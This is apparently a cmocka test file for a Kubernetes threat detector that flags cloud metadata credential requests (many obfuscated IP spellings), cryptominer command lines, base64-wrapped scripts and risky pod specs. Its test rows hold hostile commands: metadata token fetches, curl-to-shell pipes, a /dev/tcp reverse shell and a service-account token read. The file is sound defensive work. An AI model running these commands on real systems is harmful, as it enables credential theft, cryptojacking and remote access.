#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <cmocka.h>

#include "detect/cluster/base64_text.h"
#include "detect/cluster/command_look.h"
#include "detect/cluster/distinct.h"
#include "detect/cluster/key_set.h"
#include "detect/cluster/metadata_service.h"
#include "detect/cluster/pod_shape.h"
#include "detect/cluster/rights.h"

#include <sodium.h>

/* Monero's general fund: an address with a right checksum. */
#define WALLET                                                                                     \
	"888tNkZrPN6JsEgekjMnABU4TBzc2Dt29EPAvkRxbANsAnjyPbb3iQ1YBRk1UXcdRsiKc9dhwMVgN5S9cQUiyoog" \
	"D"                                                                                        \
	"avup3H"

/* -- metadata services -- */

static void metadata_services_are_known_in_every_spelling(void **state)
{
	static const struct {
		const char *command, *cloud; /* NULL: none */
		bool is_spelled, asks;
	} rows[] = {
		{"curl http://169.254.169.254/latest/meta-data/instance-id", "a cloud", false,
		 false},
		{"curl http://169.254.169.254/latest/meta-data/iam/security-credentials/node",
		 "a cloud", false, true},
		{"curl 169.254.169.254:80", "a cloud", false, false},
		{"wget -qO- http://2852039166/latest/", "a cloud", true, false},
		{"curl http://0xA9FEA9FE/", "a cloud", true, false},
		{"curl http://0xa9.0xfe.0xa9.0xfe/", "a cloud", true, false},
		{"curl http://0251.0376.0251.0376/", "a cloud", true, false},
		{"curl http://025177524776/", "a cloud", true, false},
		{"curl http://169.254.43518/", "a cloud", true, false},
		{"curl http://169.16689662/", "a cloud", true, false},
		{"curl http://[fd00:ec2::254]/latest/", "AWS", false, false},
		{"curl http://[FD00:0ec2:0:0::254]:80/latest/", "AWS", true, false},
		{"curl http://[::ffff:169.254.169.254]/", "a cloud", true, false},
		{"curl http://[::ffff:a9fe:a9fe]/", "a cloud", true, false},
		{"curl http://169.254.170.2/v2/credentials/x", "AWS (a task's role)", false, true},
		{"curl http://169.254.170.23/v1/credentials", "AWS (a pod's identity)", false,
		 true},
		{"curl -H Metadata-Flavor:Google "
		 "http://metadata.google.internal/computeMetadata/v1/"
		 "instance/service-accounts/default/token",
		 "Google Cloud", false, true},
		{"curl http://metadata/computeMetadata/v1/", "Google Cloud", true, false},
		{"curl http://METADATA.google.internal./", "Google Cloud", false, false},
		{"curl -H Metadata:true 'http://169.254.169.254/metadata/identity/oauth2/token?"
		 "api-version=2018-02-01'",
		 "a cloud", false, true},
		{"curl http://imds.example.net/metadata/identity/oauth2/token", "Azure", true,
		 true},
		{"curl http://100.100.100.200/latest/meta-data/ram/security-credentials/",
		 "Alibaba Cloud", false, true},
		{"sh -c \"curl http://169.254.'169'.254/\"", "a cloud", false, false},
		{"curl http://%31%36%39.254.169.254/", "a cloud", false, false},
		{"curl http://169.254.169.254.nip.io/", "a cloud", true, false},
		{"curl http://instance-data/latest/", "AWS", false, false},
		{"curl http://169.254.169.253/", NULL, false, false},
		{"curl http://1169.254.169.254/", NULL, false, false},
		{"curl http://metadata.google.internal.example.net/", NULL, false, false},
		{"ls -la /var/log", NULL, false, false},
		{"ping 169.254.1.1", NULL, false, false},
		{"echo 2852039167", NULL, false, false},
		{"", NULL, false, false},
	};

	for (size_t i = 0; i < sizeof(rows) / sizeof(*rows); i++) {
		struct metadata_service found;
		bool is_found = metadata_service_find(str_from(rows[i].command), &found);
		if (is_found != (rows[i].cloud != NULL))
			fail_msg("%s: %s", rows[i].command, is_found ? found.cloud : "not found");
		if (!is_found)
			continue;
		assert_string_equal(found.cloud, rows[i].cloud);
		if (found.is_spelled != rows[i].is_spelled ||
		    found.asks_credentials != rows[i].asks)
			fail_msg("%s: spelled %d, asks %d", rows[i].command, found.is_spelled,
				 found.asks_credentials);
	}
}

/* -- commands -- */

static void encode(char *out, size_t cap, const char *text)
{
	sodium_bin2base64(out, cap, (const unsigned char *)text, strlen(text),
			  sodium_base64_VARIANT_ORIGINAL);
}

static void commands_of_miners_are_told_from_others(void **state)
{
	static const struct {
		const char *command;
		uint32_t has, has_not;
		bool mines;
	} rows[] = {
		{"xmrig -o stratum+tcp://pool.example:3333 -u 48EXAMPLE --donate-level=1 -k",
		 SAYS_POOL | SAYS_OPTION | SAYS_NAME, SAYS_WALLET, true},
		{"/tmp/kworker -o 203.0.113.9:8443 -u " WALLET " -k --tls",
		 SAYS_WALLET | SAYS_LOGIN, SAYS_POOL | SAYS_NAME, true},
		{"/app/run --url=203.0.113.9:8443 --user=" WALLET ".w1", SAYS_WALLET | SAYS_LOGIN,
		 SAYS_POOL, true},
		{"worker -a rx/0 --url pool.example.net:443 --user me", SAYS_OPTION | SAYS_LOGIN, 0,
		 true},
		{"run\nPOOL=stratum+ssl://me:secret@pool.example.net:443/x\nWALLET=" WALLET,
		 SAYS_POOL | SAYS_WALLET, 0, true},
		{"run stratum+tcp://me:a/secret@pool.example.net:443 --nicehash",
		 SAYS_POOL | SAYS_OPTION, 0, true},
		{"run stratum+tcp://me:?secret#@pool.example.net:443 --nicehash",
		 SAYS_POOL | SAYS_OPTION, 0, true},
		/* marks that end a word, in a password */
		{"run stratum+tcp://me:ab,secret@pool.example.net:443 --nicehash",
		 SAYS_POOL | SAYS_OPTION, 0, true},
		{"run stratum+tcp://me:secret;a(b&c@pool.example.net:443 --nicehash",
		 SAYS_POOL | SAYS_OPTION, 0, true},
		{"run stratum+tcp://secret,more:secret@pool.example.net:443 --nicehash",
		 SAYS_POOL | SAYS_OPTION, 0, true},
		{"run stratum+tcp://w:secret --nicehash", SAYS_POOL | SAYS_OPTION, 0, true},
		{"run stratum+tcp://w:secret|x --nicehash", SAYS_POOL | SAYS_OPTION, 0, true},
		{"cat /etc/x\n{\"pools\":[{\"url\":\"pool.example:443\",\"user\":\"" WALLET
		 "\"}],\"donate-level\":0}",
		 SAYS_WALLET | SAYS_OPTION, 0, true},
		/* one of them alone */
		{"proxy --listen stratum+tcp://0.0.0.0:3333", SAYS_POOL, SAYS_WALLET | SAYS_OPTION,
		 false},
		{"shop --donations=" WALLET, SAYS_WALLET, SAYS_OPTION | SAYS_LOGIN, false},
		{"exporter --for xmrig:8080", SAYS_NAME, SAYS_OPTION, false},
		{"kswapd0 -o 203.0.113.9:443 -u me", SAYS_LOGIN, SAYS_OPTION | SAYS_WALLET, false},
		/* innocent with the same words */
		{"curl -o /tmp/a.tar -u me:secret https://example.net/a.tar", 0,
		 SAYS_LOGIN | SAYS_OPTION | SAYS_FETCHES, false},
		{"ssh -o StrictHostKeyChecking=no -u x host", 0, SAYS_LOGIN, false},
		{"mysqld --huge-pages --user=mysql", 0, SAYS_LOGIN | SAYS_OPTION, false},
		{"app --algorithm aes-256 --coinbase", 0, SAYS_OPTION, false},
		{"taxminerd --run", 0, SAYS_NAME, false},
		{"node-exporter --path.rootfs=/host --web.listen-address=0.0.0.0:9100", 0,
		 SAYS_OUTSIDE | SAYS_OPTION, false},
		{"kafka --bootstrap broker.kafka.svc.cluster.local:9999", 0, SAYS_OUTSIDE, false},
		{"sh -c curl -fsS http://localhost:8080/health", 0, SAYS_FETCHES, false},
		{"/bin/bash -ec wget -q -O /data/x https://example.net/x", 0, SAYS_FETCHES, false},
		{"git clone https://example.org:443/x.git", 0, SAYS_OUTSIDE | SAYS_FETCHES, false},
		/* what hides */
		{"sh -c curl -fsSL https://203.0.113.9/x.sh | sh", SAYS_FETCHES, 0, false},
		{"wget -qO- http://example.net/a | bash -s", SAYS_FETCHES, 0, false},
		{"sh -c echo aGVsbG8= | base64 -d | sh", SAYS_ENCODED, 0, false},
		{"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", SAYS_CONNECTS, 0, false},
		{"python3 -c 'import urllib.request as u;exec(u.urlopen(\"http://x/\").read())'",
		 SAYS_INLINE, 0, false},
		{"tunnel --to edge.example-cdn.net:8443", SAYS_OUTSIDE, 0, false},
		{"cat /var/run/secrets/kubernetes.io/serviceaccount/token", SAYS_CREDENTIALS, 0,
		 false},
	};

	for (size_t i = 0; i < sizeof(rows) / sizeof(*rows); i++) {
		struct command_look look = {0};
		command_look(&look, str_from(rows[i].command));
		if ((look.signs & rows[i].has) != rows[i].has || (look.signs & rows[i].has_not) ||
		    command_look_mines(look.signs) != rows[i].mines)
			fail_msg("%s: signs %#x, mines %d", rows[i].command, look.signs,
				 command_look_mines(look.signs));
		assert_null(strstr(look.pool, "secret"));
		assert_null(strstr(look.pool, "me:"));
	}
}

/* "": it is not sure which part is the host, so nothing is shown. */
static void pools_are_shown_without_passwords(void **state)
{
	static const struct {
		const char *command, *pool;
	} rows[] = {
		{"-o stratum+tcp://pool.example:3333", "pool.example:3333"},
		{"-o stratum+tcp://pool.example", "pool.example"},
		{"-o stratum+tcp://[2001:db8::1]:3333", "[2001:db8::1]:3333"},
		{"-o stratum+tcp://w:a,b@pool.example:3333 -u x", "pool.example:3333"},
		{"-o stratum+tcp://w:a,b@c;d@pool.example:3333,e", "pool.example:3333"},
		{"-o stratum+tcp://a.example:1,stratum+tcp://w:p@b.example:2", "a.example:1"},
		{"-o stratum+tcp://w:pass", ""},
		{"-o stratum+tcp://w:pa$$:3333", ""},
	};

	for (size_t i = 0; i < sizeof(rows) / sizeof(*rows); i++) {
		struct command_look look = {0};
		command_look(&look, str_from(rows[i].command));
		assert_true(look.signs & SAYS_POOL);
		assert_string_equal(look.pool, rows[i].pool);
	}
}

static void layers_of_base64_hide_nothing(void **state)
{
	const char *inner = "/tmp/x -o stratum+tcp://pool.example.net:443 -u " WALLET " -k";
	char once[512], twice[1024], command[2048];
	struct command_look look = {0};

	encode(once, sizeof(once), inner);
	snprintf(command, sizeof(command), "sh -c echo %s | base64 -d | sh", once);
	command_look(&look, str_from(command));
	assert_true(command_look_mines(look.signs) && (look.signs & SAYS_ENCODED));
	assert_string_equal(look.pool, "pool.example.net:443");
	assert_string_equal(look.wallet, WALLET);
	assert_string_equal(look.coin, "monero");

	look = (struct command_look){0};
	encode(twice, sizeof(twice), command);
	snprintf(command, sizeof(command), "sh -c eval $(echo %s|base64 --decode)", twice);
	command_look(&look, str_from(command));
	assert_true(command_look_mines(look.signs) && (look.signs & SAYS_ENCODED));
}

static void base64_is_read_as_far_as_it_goes(void **state)
{
	static const struct {
		const char *text, *decoded;
	} rows[] = {
		{"aGVsbG8=", "hello"},
		{"aGVsbG8", "hello"},
		{"aGVsbG8h", "hello!"},
		{"aGVsb", "hel"},
		{"", ""},
		{"____", "\xff\xff\xff"},
	};
	char out[16];

	for (size_t i = 0; i < sizeof(rows) / sizeof(*rows); i++) {
		size_t len = base64_decode(str_from(rows[i].text), out, sizeof(out));
		if (!str_equal(str_of(out, len), str_from(rows[i].decoded)))
			fail_msg("%s: %zu bytes", rows[i].text, len);
	}
	assert_int_equal(base64_decode(STR("aGVsbG8haGVsbG8haGVsbG8h"), out, 6), 6);
}

/* -- pods -- */

static struct json_value read_json(const char *text, struct json *doc, char *copy, size_t cap)
{
	snprintf(copy, cap, "%s", text);
	for (char *c = copy; *c; c++)
		*c = *c == '\'' ? '"' : *c;
	assert_true(json_read(doc, str_from(copy)) > 0);
	return json_root(doc);
}

static void pods_are_found_in_what_carries_them(void **state)
{
	static const struct {
		const char *json;
		uint32_t form, signs;
		const char *image;
	} rows[] = {
		{"{'spec':{'containers':[{'image':'a:1','securityContext':{'privileged':true}}]}}",
		 POD_PRIVILEGED | POD_HAS_SPEC, 0, "a:1"},
		{"{'kind':'DaemonSet','spec':{'template':{'spec':{'hostPID':true,'tolerations':"
		 "[{'operator':'Exists'}],'containers':[{'image':'b'}]}}}}",
		 POD_HOST_PROCESSES | POD_EVERY_TAINT | POD_HAS_SPEC, 0, "b"},
		{"{'kind':'CronJob','spec':{'jobTemplate':{'spec':{'template':{'spec':{'containers'"
		 ":"
		 "[{'image':'c','command':['sh','-c'],'args':['curl http://x/a|sh']}]}}}}}}",
		 POD_HAS_SPEC, SAYS_FETCHES, "c"},
		{"{'spec':{'initContainers':[{'image':'d','resources':{'limits':{'cpu':'500m'}}}],"
		 "'volumes':[{'hostPath':{'path':'/'}}]}}",
		 POD_LOW_CPU | POD_HOST_FILES | POD_HAS_SPEC, 0, "d"},
		{"{'spec':{'ephemeralContainers':[{'image':'e','securityContext':{'capabilities':"
		 "{'add':['NET_ADMIN','SYS_ADMIN']}}}]}}",
		 POD_CAPABLE | POD_HAS_SPEC, 0, "e"},
		{"{'spec':{'containers':[{'image':'f','lifecycle':{'postStart':{'exec':{'command':"
		 "['sh','-c','echo aGVsbG8= | base64 -d | sh']}}}}]}}",
		 POD_HAS_SPEC, SAYS_ENCODED, "f"},
		{"{'spec':{'containers':[{'image':'g','args':['-o','203.0.113.9:443','-u','" WALLET
		 "']}]}}",
		 POD_HAS_SPEC, SAYS_WALLET | SAYS_LOGIN, "g"},
		{"{'spec':{'containers':[{'image':'quiet'},{'image':'docker.io/x/xmrig:6'}]}}",
		 POD_HAS_SPEC, SAYS_NAME, "docker.io/x/xmrig:6"},
		{"[{'op':'add','path':'/spec/template/spec/containers/0/args','value':['-o',"
		 "'stratum+tcp://p.example:1','--donate-level','0']}]",
		 POD_HAS_SPEC, SAYS_POOL | SAYS_OPTION, ""},
		{"{'spec':{'containers':[{'image':'h','resources':{'limits':{'cpu':'2','hugepages-"
		 "2Mi'"
		 ":'2Gi'}}}]}}",
		 POD_HUGE_PAGES | POD_HAS_SPEC, 0, "h"},
		{"{'spec':{'tolerations':[{'operator':'Exists','key':'a'}],'volumes':[{'hostPath':"
		 "{'path':'/var/log/pods'}}],'containers':[{'image':'i'}]}}",
		 POD_HAS_SPEC, 0, "i"},
		{"{'kind':'Status','spec':{'containers':[{'image':'j'}]}}", 0, 0, ""},
		{"{'spec':{'containers':'x','volumes':7}}", POD_HAS_SPEC, 0, ""},
		{"[]", POD_HAS_SPEC, 0, ""},
		{"7", 0, 0, ""},
	};
	struct json_node nodes[256];
	char copy[4096];

	for (size_t i = 0; i < sizeof(rows) / sizeof(*rows); i++) {
		struct json doc = {.nodes = nodes, .cap = 256};
		struct pod_shape shape = {0};
		pod_shape_read(&shape, read_json(rows[i].json, &doc, copy, sizeof(copy)));
		if (shape.form != rows[i].form ||
		    (shape.look.signs & rows[i].signs) != rows[i].signs ||
		    (rows[i].signs == 0 && shape.look.signs != 0))
			fail_msg("%s: form %#x, signs %#x", rows[i].json, shape.form,
				 shape.look.signs);
		assert_string_equal(shape.image, rows[i].image);
	}
}

static void a_pod_names_its_secrets_and_account(void **state)
{
	struct json_node nodes[256];
	struct json doc = {.nodes = nodes, .cap = 256};
	struct pod_shape shape = {0};
	char copy[2048];

	pod_shape_read(
		&shape,
		read_json(
			"{'metadata':{'name':'w','ownerReferences':[{'controller':true}]},'spec':{"
			"'serviceAccountName':'web','nodeName':'n1','replicas':3,'volumes':[{'"
			"secret'"
			":{'secretName':'tls'}}],'containers':[{'image':'a','env':[{'name':'K',"
			"'valueFrom':{'secretKeyRef':{'name':'aws','key':'k'}}}],'envFrom':[{"
			"'secretRef':{'name':'aws'}}]}]}}",
			&doc, copy, sizeof(copy)));
	assert_string_equal(shape.name, "w");
	assert_string_equal(shape.service_account, "web");
	assert_string_equal(shape.node, "n1");
	assert_int_equal(shape.secret_count, 2);
	assert_string_equal(shape.secrets[0], "tls");
	assert_string_equal(shape.secrets[1], "aws");
	assert_int_equal(shape.replicas, 3);
	assert_true(shape.form & POD_IS_OWNED);
}

/* -- keys -- */

static void ids_of_keys_are_found_and_nothing_else_is(void **state)
{
	struct json_node nodes[64];
	struct json doc = {.nodes = nodes, .cap = 64};
	struct key_set ids = {.count = 0};
	char copy[1024], encoded[256], text[1024];

	encode(encoded, sizeof(encoded),
	       "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n"
	       "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n");
	snprintf(text, sizeof(text),
		 "{'data':{'credentials':'%s','a':'ASIAZZZZZZZZZZZZZZZZ','b':'AKIASHORT',"
		 "'c':'XAKIAIOSFODNN7EXAMPLF','d':'AKIAIOSFODNN7EXAMPLEX','e':'"
		 "AKIAIOSFODNN7EXAMPLE'}}",
		 encoded);
	key_set_find(&ids, read_json(text, &doc, copy, sizeof(copy)));
	assert_int_equal(ids.count, 2);
	assert_string_equal(ids.at[0], "AKIAIOSFODNN7EXAMPLE");
	assert_string_equal(ids.at[1], "ASIAZZZZZZZZZZZZZZZZ");
}

static void the_lowest_ids_stay_in_any_order(void **state)
{
	struct key_set up = {.count = 0}, down = {.count = 0};
	char id[KEY_ID_LEN + 1];

	for (int i = 0; i < 30; i++) {
		snprintf(id, sizeof(id), "AKIA%016d", i);
		key_set_add(&up, str_from(id));
		snprintf(id, sizeof(id), "AKIA%016d", 29 - i);
		key_set_add(&down, str_from(id));
	}
	assert_int_equal(up.count, KEY_SET_MAX);
	assert_memory_equal(up.at, down.at, sizeof(up.at));
}

/* -- counting -- */

static uint64_t mixed(uint64_t i)
{
	i *= UINT64_C(0x9E3779B97F4A7C15);
	i ^= i >> 32;
	i *= UINT64_C(0xD6E8FEB86659FD93);
	return i ^ (i >> 32);
}

static void counts_are_the_same_in_any_order_and_twice(void **state)
{
	static const uint64_t sizes[] = {0, 1, 31, 32, 33, 100, 1000, 50000};

	for (size_t k = 0; k < sizeof(sizes) / sizeof(*sizes); k++) {
		struct distinct up = {.count = 0}, down = {.count = 0};
		for (uint64_t i = 0; i < sizes[k]; i++) {
			distinct_add(&up, mixed(i));
			distinct_add(&down, mixed(sizes[k] - 1 - i));
			distinct_add(&down, mixed(sizes[k] - 1 - i / 2));
		}
		uint64_t count = distinct_count(&up);
		assert_memory_equal(up.lowest, down.lowest, sizeof(up.lowest));
		assert_int_equal(count, distinct_count(&down));
		if (sizes[k] <= DISTINCT_EXACT)
			assert_int_equal(count, sizes[k]);
		else
			assert_in_range(count, sizes[k] / 2, sizes[k] * 2);
	}
}

/* -- why it was allowed -- */

static void the_servers_reasons_are_read(void **state)
{
	struct binding b;

	assert_true(
		rights_read_reason(STR("RBAC: allowed by ClusterRoleBinding \"all\" of ClusterRole "
				       "\"cluster-admin\" to User \"system:anonymous\""),
				   &b));
	assert_true(b.is_cluster && str_equal(b.name, STR("all")) &&
		    str_equal(b.role, STR("cluster-admin")) &&
		    str_equal(b.subject, STR("system:anonymous")));
	assert_true(rights_read_reason(
		STR("RBAC: allowed by RoleBinding \"edit/shop\" of Role \"r\" to "
		    "ServiceAccount \"ci/shop\""),
		&b));
	assert_true(!b.is_cluster && str_equal(b.name, STR("edit")) &&
		    str_equal(b.namespace, STR("shop")) && str_equal(b.subject, STR("ci/shop")));
	assert_false(
		rights_read_reason(STR("RBAC: allowed by RoleBinding \"edit\" of Role \"r\" to "
				       "User \"x\""),
				   &b));
	assert_false(rights_read_reason(STR("RBAC: allowed by ClusterRoleBinding \"all"), &b));
	assert_false(rights_read_reason(STR("access granted by IAM permissions."), &b));
	assert_false(rights_read_reason(STR(""), &b));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(metadata_services_are_known_in_every_spelling),
		cmocka_unit_test(commands_of_miners_are_told_from_others),
		cmocka_unit_test(pools_are_shown_without_passwords),
		cmocka_unit_test(layers_of_base64_hide_nothing),
		cmocka_unit_test(base64_is_read_as_far_as_it_goes),
		cmocka_unit_test(pods_are_found_in_what_carries_them),
		cmocka_unit_test(a_pod_names_its_secrets_and_account),
		cmocka_unit_test(ids_of_keys_are_found_and_nothing_else_is),
		cmocka_unit_test(the_lowest_ids_stay_in_any_order),
		cmocka_unit_test(counts_are_the_same_in_any_order_and_twice),
		cmocka_unit_test(the_servers_reasons_are_read),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
